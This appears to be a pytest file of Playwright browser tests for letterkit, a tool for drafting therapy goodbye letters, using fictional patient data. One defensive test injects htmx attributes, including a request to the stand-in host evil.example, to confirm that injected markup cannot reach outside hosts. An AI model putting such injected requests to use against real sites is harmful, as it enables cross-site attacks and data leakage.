"""letterkit serve in a real browser (Debian's chromium, driven by Playwright).

The server runs as `letterkit serve` in a subprocess on a free port; the tests open the link it
prints. Skipped, with the reason, only when chromium (or playwright) is not installed.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
if CHROMIUM is None:
    pytest.skip("chromium is not installed (apt-get install chromium)", allow_module_level=True)
playwright_sync = pytest.importorskip("playwright.sync_api", reason="the playwright package is not installed")

from browser_support import ARGS, ROOT, Server, axe  # noqa: E402  (the browser tests' one server)

SHOTS = os.environ.get("LETTERKIT_SCREENSHOTS")
"""A folder to keep a screenshot of every page in, at desktop and phone widths."""


@pytest.fixture
def server(tmp_path: Path) -> Iterator[Server]:
    running = Server(tmp_path)
    yield running
    if running.process.poll() is None:
        running.stop()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright_sync.sync_playwright() as p:
        launched = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield launched
        launched.close()


def cli(*args: str, cwd: Path) -> str:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    out = subprocess.run(
        [sys.executable, "-m", "letterkit", *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        env=env,
        timeout=120,
    )
    assert out.returncode == 0, out.stderr
    return out.stdout


def shoot(page: Any, name: str) -> None:
    if not SHOTS:
        return
    Path(SHOTS).mkdir(parents=True, exist_ok=True)
    for width, label in ((1280, "desktop"), (390, "phone")):
        page.set_viewport_size({"width": width, "height": 900})
        page.screenshot(path=str(Path(SHOTS) / f"{name}-{label}.png"), full_page=label == "desktop")
    page.set_viewport_size({"width": 1280, "height": 900})


GOODBYE = {
    "patient.name": "Nora Vale",
    "patient.preferred_name": "Nora",
    "therapist.name": "Sam Okoro",
    "therapist.role": "Psychological therapist",
    "therapist.service": "Riverside Talking Therapies",
    "closing": "I will remember our work together.",
    "background": "You came to see me after a hard year at work.",
    "referral.by": "your GP",
    "referral.reason": "low mood",
    "ipaf.self": "You often feel like a spare part.",
    "ipaf.other": "You expect other people to pass you over.",
    "ipaf.affect.0": "sadness",
    "ipaf.imagery.0": "a spare part",
    "coping_strategies.0.strategy": "You kept busy for everyone else.",
    "coping_strategies.0.cost": "It left you worn out.",
    "course_of_therapy": "We met for sixteen sessions.",
    "changes.0": "You asked for help at work.",
    "unfinished_business.0": "Saying no still feels hard.",
    "ending": "The ending may stir up old feelings of being left.",
    "transference": "At times you worried that I would forget you.",
}


def test_write_save_read_together_and_see_the_patients_words(server: Server, browser: Any) -> None:
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.goto(server.link)
    assert page.url == server.base + "/"  # the token is gone from the address bar
    assert "Your letters" in page.content()
    assert not axe(page), axe(page)
    shoot(page, "caseload-empty")

    page.select_option("#new-kind", "goodbye-letter")
    page.fill("#new-patient", "Nora Vale")
    page.click("text=Start the letter")
    page.wait_for_url(re.compile(r".*/letters/nora-vale-goodbye-letter\.yaml$"))
    name = "nora-vale-goodbye-letter.yaml"
    assert (server.folder / name).exists()

    # A validation message at the field as you type, and the preview follows.
    page.fill("[name='session']", "99")
    page.locator("#p-session .problem").wait_for()
    assert "session number from 1 to 16" in page.inner_text("#p-session")
    page.fill("[name='session']", "13")
    page.locator("#p-session .problem").wait_for(state="detached")
    # A new letter opens short: its sections fold until something is written in them.
    folded = page.locator("#letter-form details.section:not([open]) > summary")
    assert folded.count() >= 3
    while folded.count():
        folded.first.click()
    for field, value in GOODBYE.items():
        page.fill(f"[name='{field}']", value)
    page.locator("#preview", has_text="after a hard year at work").wait_for()
    assert "spare part" in page.inner_text("#preview")
    page.select_option("#style", "large-print")  # the preview follows the print style
    page.locator("#preview link[href='/preview/large-print.css']").wait_for(state="attached")
    assert not axe(page), axe(page)
    shoot(page, "letter")

    page.select_option("#author", "therapist")
    page.fill("#author-name", "Sam Okoro")
    page.fill("#note", "For session 13")
    page.click("button[value='draft']")
    page.wait_for_selector(".message")
    assert "Draft 1" in page.inner_text(".message"), page.inner_text("main")

    # The patient changes a section in the reading view.
    page.click("text=Read with the patient")
    page.wait_for_url(re.compile(r".*/read$"))
    box = page.locator(".para-text", has_text="You asked for help at work.")
    box.click()
    page.keyboard.press("Control+End")
    page.keyboard.type(" I said no to extra shifts.")
    page.locator(".para-text ins", has_text="extra shifts").wait_for()
    assert not axe(page), axe(page)
    shoot(page, "read")
    page.fill("#r-name", "Nora Vale")
    page.click("button:has-text('Save my changes')")
    page.wait_for_selector(".message")
    assert "Saved as Nora Vale's suggestions, draft 2." in page.inner_text(".message")

    # Compare the drafts: the patient's words are there.
    page.click("text=History")
    page.click("button:has-text('Compare')")
    page.wait_for_selector("ins")
    assert "extra shifts" in page.inner_text(".preview")
    assert not axe(page), axe(page)
    shoot(page, "history-compare")
    page.click("text=Who wrote which words")
    page.wait_for_url(re.compile(r".*view=contributions.*"))
    page.wait_for_selector(".preview ins")  # the patient's words, as insertions
    assert "extra shifts" in " ".join(page.locator(".preview ins").all_inner_texts())
    shoot(page, "history-contributions")
    page.close()

    log = cli("draft", "log", name, cwd=server.folder)
    assert "patient Nora Vale" in log and "therapist Sam Okoro: For session 13" in log
    assert "extra shifts" in cli("contributions", name, cwd=server.folder)


def test_keyboard_only(server: Server, browser: Any) -> None:
    shutil.copy(ROOT / "samples" / "peter-goodbye.yaml", server.folder / "peter.yaml")
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.goto(server.link)

    # The page's CSP forbids eval, so the focused element is read through a locator.
    def tab_to(attribute: str, value: str, limit: int = 400) -> None:
        for _ in range(limit):
            page.keyboard.press("Tab")
            focused = page.locator(":focus")
            found = focused.inner_text() if attribute == "text" else focused.get_attribute(attribute)
            if found and value in found:
                return
        raise AssertionError(f"never reached {attribute}={value}")

    tab_to("text", "Peter")
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile(r".*/letters/peter\.yaml$"))
    tab_to("name", "ipaf.self")
    page.keyboard.press("End")
    page.keyboard.type(" You feel it most at family gatherings.")
    page.locator("#preview", has_text="family gatherings").wait_for()
    tab_to("id", "author-name")
    page.keyboard.type("Helen Marsh")
    tab_to("value", "draft")
    page.keyboard.press("Enter")
    page.wait_for_selector(".message")
    assert "Draft 1" in page.inner_text(".message")
    assert "family gatherings" in (server.folder / "peter.yaml").read_text()
    page.close()


def test_every_page_works_without_javascript_and_passes_axe(server: Server, browser: Any) -> None:
    shutil.copy(ROOT / "samples" / "peter-goodbye.yaml", server.folder / "peter.yaml")
    context = browser.new_context(java_script_enabled=False, viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.set_default_timeout(20_000)
    page.goto(server.link)
    page.click("text=Peter")
    page.fill("[name='ipaf.self']", "Saved with JavaScript off.")
    page.click("button[value='add:changes']")
    page.wait_for_selector("[name='changes.4']")  # the sample has four changes: 0 to 3
    page.fill("[name='changes.4']", "A fifth change.")
    page.fill("#author-name", "Helen Marsh")
    page.click("button[value='draft']")
    assert "Draft 1" in page.inner_text(".message")
    text = (server.folder / "peter.yaml").read_text()
    assert "Saved with JavaScript off." in text and "A fifth change." in text
    page.goto(server.base + "/letters/peter.yaml/read")
    page.locator(".para textarea", has_text="A fifth change.").fill("A fifth change, in my words.")
    page.click("button:has-text('Save my changes')")
    assert "draft 2" in page.inner_text(".message")
    context.close()
    # axe runs in the page, so it needs JavaScript: every page again, scanned.
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.goto(server.link)
    for url in (
        "/",
        "/letters/peter.yaml",
        "/letters/peter.yaml/read",
        "/letters/peter.yaml/history",
        "/letters/peter.yaml/history?a=1&b=2",
        "/letters/peter.yaml/history?view=contributions",
    ):
        page.goto(server.base + url)
        assert not axe(page), (url, axe(page))
        shoot(page, "page" + url.replace("/", "-").replace("?", "-").replace("=", "").replace("&", ""))
    page.close()
    stopped = server.stop()
    assert "letterkit stopped." in stopped


def test_injected_htmx_attributes_cannot_act(server: Server, browser: Any) -> None:
    """Were markup ever to get into a letter shown in a page, htmx would not act on it: the
    letter's box is hx-disable, and htmx sends requests to this server only. (The markup is
    put in by the test, through the browser's own tools: letterkit escapes every word.)"""
    shutil.copy(ROOT / "samples" / "peter-goodbye.yaml", server.folder / "peter.yaml")
    context = browser.new_context(bypass_csp=True, viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.goto(server.link)
    page.goto(server.base + "/letters/peter.yaml")
    page.wait_for_function("() => window.htmx !== undefined")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.evaluate(
        """() => {
        const add = (where, attrs) => {
            const el = document.createElement('div');
            for (const [k, v] of Object.entries(attrs)) el.setAttribute(k, v);
            document.querySelector(where).appendChild(el);
            htmx.process(el);
        };
        add('.letter-preview', {'hx-get': '/api/v1/letters?inside=1', 'hx-trigger': 'load'});
        add('main', {'hx-get': 'http://evil.example/?outside=1', 'hx-trigger': 'load'});
        add('main', {'hx-get': '/api/v1/letters?control=1', 'hx-trigger': 'load'});
    }"""
    )
    page.wait_for_timeout(1500)
    assert any("control=1" in url for url in asked), asked  # the injection itself works
    assert not any("inside=1" in url or "evil.example" in url for url in asked), asked
    context.close()
